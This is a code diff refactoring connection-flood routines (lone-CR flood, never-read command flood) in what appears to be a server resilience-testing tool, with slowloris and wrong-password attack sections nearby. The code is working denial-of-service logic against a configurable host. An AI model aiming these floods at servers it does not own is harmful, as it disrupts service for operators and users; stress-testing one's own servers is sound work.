@@ -283,80 +283,90 @@ async function slowloris(job: AttackJob, s: AttackSummary): Promise<void> {
 
 async function loneCr(job: AttackJob, s: AttackSummary): Promise<void> {
   const p = job.params.lonecr;
-  const stopAt = Date.now() + job.durationMs;
-  const chunk = Buffer.alloc(64 * 1024, 0x0d);
-  const total = p.mebibytes * 1024 * 1024;
-  const chunkMs = (chunk.length / (p.mebibytesPerSecond * 1024 * 1024)) * 1000;
-  const flood = async (): Promise<void> => {
-    while (Date.now() < stopAt) {
-      const t = new Tracked(job.host, job.port, p.source);
-      if (!(await t.connectedOrFailed(10_000))) {
-        account(s, t, false);
-        await sleep(100);
-        continue;
-      }
+  const block = Buffer.alloc(64 * 1024, 0x0d);
+  await floodAgainAndAgain(job, s, {
+    source: p.source,
+    connections: p.connections,
+    block,
+    blockMs: (block.length / (p.mebibytesPerSecond * 1024 * 1024)) * 1000,
+    maxBytes: p.mebibytes * 1024 * 1024,
+    start: async (t) => {
       await t.until(() => t.greeting !== undefined, 10_000);
       t.write('a NOOP');
-      let sent = 0;
-      let blocked = false;
-      const began = Date.now();
-      while (sent < total && !t.closed && Date.now() < stopAt) {
-        sent += chunk.length;
-        if (!t.write(chunk) && !(await t.drained(stopAt))) {
-          blocked = !t.closed;
-          break;
-        }
-        await sleep(Math.max(0, began + (sent / chunk.length) * chunkMs - Date.now()));
-      }
-      // what the server makes of it: an answer, a close, or nothing
-      if (!t.closed && !blocked) {
-        await t.until(() => t.lines.length > 0, Math.min(2000, Math.max(0, stopAt - Date.now())));
-      }
-      if (blocked) s.stalled++;
-      account(s, t, !t.closed);
-      t.end();
-      if (Date.now() < stopAt) await sleep(50);
-    }
-  };
-  await Promise.all(Array.from({ length: p.connections }, flood));
+    },
+    // what the server makes of it: an answer, a close, or nothing
+    finish: async (t, stopAt) => {
+      await t.until(() => t.lines.length > 0, Math.min(2000, Math.max(0, stopAt - Date.now())));
+    },
+  });
 }
 
 // ---------------------------------------------------------------- commands, never read
 
 async function noRead(job: AttackJob, s: AttackSummary): Promise<void> {
   const p = job.params.noread;
-  const stopAt = Date.now() + job.durationMs;
   const block = Buffer.from(p.commands.repeat(Math.ceil(16384 / p.commands.length)), 'latin1');
-  const blockMs = (block.length / (p.kibPerSecond * 1024)) * 1000;
-  // each connection floods until the server closes it, then comes back (as the lone-CR flood)
+  await floodAgainAndAgain(job, s, {
+    source: p.source,
+    connections: p.connections,
+    block,
+    blockMs: (block.length / (p.kibPerSecond * 1024)) * 1000,
+    maxBytes: Number.POSITIVE_INFINITY,
+    // never read: Node stops reading from the kernel once its 16 KiB buffer is full
+    start: (t) => {
+      t.socket.pause();
+      return Promise.resolve();
+    },
+  });
+}
+
+/**
+ * `connections` floods at once for the job's duration: each connects, `start`s, sends `block`
+ * every `blockMs` until the server closes it, `maxBytes` are sent or its writes stay blocked,
+ * then (`finish`, if it was not blocked or closed) is accounted and comes back on a new connection.
+ */
+async function floodAgainAndAgain(
+  job: AttackJob,
+  s: AttackSummary,
+  o: {
+    source: string;
+    connections: number;
+    block: Buffer;
+    blockMs: number;
+    maxBytes: number;
+    start: (t: Tracked) => Promise<void>;
+    finish?: (t: Tracked, stopAt: number) => Promise<void>;
+  },
+): Promise<void> {
+  const stopAt = Date.now() + job.durationMs;
   const one = async (): Promise<void> => {
     while (Date.now() < stopAt) {
-      const t = new Tracked(job.host, job.port, p.source);
+      const t = new Tracked(job.host, job.port, o.source);
       if (!(await t.connectedOrFailed(10_000))) {
         account(s, t, false);
         await sleep(100);
         continue;
       }
-      // never read: Node stops reading from the kernel once its 16 KiB buffer is full
-      t.socket.pause();
+      await o.start(t);
+      let sent = 0;
       let blocked = false;
       const began = Date.now();
-      let blocks = 0;
-      while (!t.closed && Date.now() < stopAt) {
-        blocks++;
-        if (!t.write(block) && !(await t.drained(stopAt))) {
+      while (sent < o.maxBytes && !t.closed && Date.now() < stopAt) {
+        sent += o.block.length;
+        if (!t.write(o.block) && !(await t.drained(stopAt))) {
           blocked = !t.closed;
           break;
         }
-        await sleep(Math.max(0, began + blocks * blockMs - Date.now()));
+        await sleep(Math.max(0, began + (sent / o.block.length) * o.blockMs - Date.now()));
       }
+      if (!t.closed && !blocked) await o.finish?.(t, stopAt);
       if (blocked) s.stalled++;
       account(s, t, !t.closed);
       t.end();
       if (Date.now() < stopAt) await sleep(50);
     }
   };
-  await Promise.all(Array.from({ length: p.connections }, one));
+  await Promise.all(Array.from({ length: o.connections }, one));
 }
 
 // ---------------------------------------------------------------- wrong passwords
